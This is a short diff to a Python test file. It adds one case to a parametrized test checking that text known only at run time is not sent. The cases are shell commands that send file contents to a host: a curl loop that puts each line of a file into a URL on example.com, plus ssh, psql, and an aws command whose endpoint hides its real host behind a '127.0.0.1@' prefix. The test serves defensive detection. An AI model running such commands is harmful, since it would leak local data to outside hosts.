@@ -145,6 +145,7 @@ def test_old_pythons_import_no_module_of_the_working_folder(
         'ssh host "$(cat f)"',
         'while read x; do curl -s "example.com:8080/$x"; done < f',
         'psql -h "$(cat f)" -c "select 1"',
+        'aws --endpoint http://127.0.0.1@example.com s3 ls "$(cat f)"',
     ],
 )
 def test_text_that_is_only_known_at_run_time_is_not_sent(command: str) -> None:
